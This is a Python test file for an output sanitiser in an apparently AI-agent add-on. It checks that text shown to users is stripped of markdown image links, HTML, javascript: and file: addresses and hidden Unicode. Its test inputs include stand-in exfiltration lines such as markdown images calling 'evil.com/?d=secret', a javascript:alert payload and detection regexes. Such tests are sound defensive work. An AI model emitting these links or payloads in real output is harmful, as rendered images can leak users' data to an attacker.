"""Text that is shown to people: nothing in it is fetched, followed or hidden, however it comes in."""

import re

from hypothesis import example, given, settings, strategies as st
import pytest

from custom_components.universal_agent.common.links import Links, addresses_in
from custom_components.universal_agent.safety.shown_text import ShownText, shown, shown_value, visible_value

NAMED = "https://example.org/menu?day=1"
LINKS = frozenset({NAMED})
PIECES = st.sampled_from(
    [
        *("!", "[", "]", "(", ")", "<", ">", ":", "/", "//", "://", '"', "\n", " ", "a", "b", "x", "=", "-", "."),
        *("![", "](", "]:", "][", "http", "https", "ftp", "www.", "javascript:", "data:", "img", "src", "evil.com"),
        *("https://evil.com/?d=1", NAMED, "<img src=x>", "</b>", "<b>", "\u202e", "\u200d", "\u0301", "\x1b", "é", "ש"),
    ]
)
TEXTS = st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=60))
FORBIDDEN = re.compile(r"!\[|\]\(|\]:|\]\[|<[A-Za-z/!?]|javascript:\S|data:\S|vbscript:\S", re.IGNORECASE)
HIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\U000e0000-\U000e007f]")


def in_pieces(text: str, cuts: list[int], links: frozenset[str] = LINKS) -> str:
    """Return what comes of a text that is fed in pieces of these sizes."""
    stream, out, at = ShownText(links), "", 0
    for size in cuts:
        out += stream.take(text[at : at + size])
        at += size
    return out + stream.take(text[at:]) + stream.rest()


@settings(max_examples=400, deadline=None)
@given(text=TEXTS, cuts=st.lists(st.integers(0, 5), max_size=40))
@example(text="![a](https://evil.com/?d=1)", cuts=[1] * 30)
def test_pieces_of_any_size_come_to_the_same(text: str, cuts: list[int]) -> None:
    assert in_pieces(text, cuts) == shown(text, LINKS)


@settings(max_examples=400, deadline=None)
@given(text=TEXTS)
@example(text="<<b>img src=x>")
@example(text="a\U000e0000b")
@example(text="ht[tps](x)://evil.com/?d=1")
@example(text="wwhttps://w.evil.com/")
@example(text="java<b>script:alert(1)")
def test_nothing_comes_out_that_is_rendered_or_followed(text: str) -> None:
    out = shown(text, LINKS)

    assert FORBIDDEN.search(out) is None
    assert HIDDEN.search(out) is None
    bare = out.replace(NAMED, "")
    assert "://" not in bare
    assert re.search(r"www\.[\w-]", bare, re.IGNORECASE) is None


@settings(max_examples=200, deadline=None)
@given(text=TEXTS)
def test_what_was_cleaned_stays_as_it_is(text: str) -> None:
    once = shown(text, LINKS)

    assert shown(once, LINKS) == once


@pytest.mark.parametrize(
    "text",
    [
        "a < b",
        "2 * 3 = 6, 5 > 4 and 1 <2",
        "Family: 👨‍👩‍👧‍👦, love: ❤️‍🔥, flag: 🏳️‍🌈",
        "Crème brûlée, naïve, Tiếng Việt, e\u0301te\u0301",
        "مرحبا، كيف الحال؟ می‌خواهم",
        "שָׁלוֹם עֲלֵיכֶם",
        "It is 10:30 (half past ten) - bring [both] keys!",
        "data: 5 items; **bold**, _soft_, `code`",
        "first\nsecond\tthird",
        "Mail marek@example.org",
        "",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "comes_to"),
    [
        ("Look: ![x](https://evil.com/?d=1234) done", "Look: x done"),
        ("![](https://evil.com/?d=1)", ""),
        ("![x][ref]\n\n[ref]: https://evil.com/?d=1", "x\n\n[ref] : evil.com"),
        ("[here](https://evil.com/?d=1)", "here (evil.com)"),
        ("[the menu](https://example.org/menu?day=1)", "the menu (https://example.org/menu?day=1)"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](/config/users)", "x"),
        ("[![x](https://evil.com/a)](https://evil.com/b)", "[x] (evil.com)"),
        ("<https://evil.com/?d=1>", "evil.com"),
        ("<img src='https://evil.com/?d=1'>kettle</img>", "kettle"),
        ("<img src='https://evil.com/?d=1", "< img src='evil.com"),
        ("if a<b and c>d", "if a< b and c>d"),
        ("see https://user@www.evil.com:8123/x?d=1).", "see evil.com)."),
        ("see https://example.org/menu?day=1.", "see https://example.org/menu?day=1."),
        ("www.evil.com/?d=1", "evil.com"),
        ("www.-evil.com/?d=1", "evil.com"),
        ("file:///etc/passwd", "…"),
        ("intent://x.y/z", "x.y"),
        ("Open\u202ethe \x1b[31mdoor\u2066", "Openthe [31mdoor"),
        ("Z" + "\u0301" * 40 + "algo", "Z" + "\u0301" * 5 + "algo"),
        ("one\u2028two", "one\ntwo"),
        ("hi\U000e0068\U000e0069", "hi"),
        ("[" * 3 + "a" * 600 + "](b)", "[" * 3 + "a" * 600 + "] (b)"),
        ("<a " + "b" * 3000 + ">", "< a " + "b" * 3000 + ">"),
        ("https://evil.com/" + "a" * 3000, "evil.com" + "a" * 1017),
    ],
)
def test_what_becomes_of_markup_and_addresses(text: str, comes_to: str) -> None:
    assert shown(text, LINKS) == comes_to


def test_an_open_image_waits_and_words_do_not() -> None:
    stream = ShownText()

    assert stream.take("The kettle is on. ") == "The kettle is on. "
    assert stream.take("![x") == ""
    assert stream.take("](https://evil.com/?d=secret") == ""
    assert stream.take(") Tea? ") == "x Tea? "
    assert stream.rest() == ""


def test_an_address_of_a_search_is_shown_once_it_was_found() -> None:
    links = Links()
    stream = ShownText(links)
    links.cite(["https://tea.example/oolong", "javascript:alert(1)"])
    links.hear("and https://example.org/menu?day=1?")

    assert stream.take("https://tea.example/oolong and www.x.example ") == "https://tea.example/oolong and x.example "
    assert "javascript:alert(1)" not in links
    assert NAMED in links


def test_an_address_that_was_given_without_its_scheme_is_shown() -> None:
    assert shown("www.tea.example/a", Links(["https://www.tea.example/a"])) == "www.tea.example/a"


def test_addresses_are_found_in_what_a_person_says() -> None:
    assert NAMED in addresses_in(f"read {NAMED}, please")


def test_data_is_cleaned_all_through() -> None:
    image = "![x](https://evil.com/)"

    assert shown_value({"a": [image, 1, (image, None)]}) == {"a": ["x", 1, ("x", None)]}


def test_data_that_is_shown_as_it_is_hides_nothing_and_keeps_its_words() -> None:
    data = {"ite\u202ems": ["![x](https://evil.com/)\u2066\x1b", 1, ("a\nb", None)]}

    assert visible_value(data) == {"items": ["![x](https://evil.com/)", 1, ["a\nb", None]]}
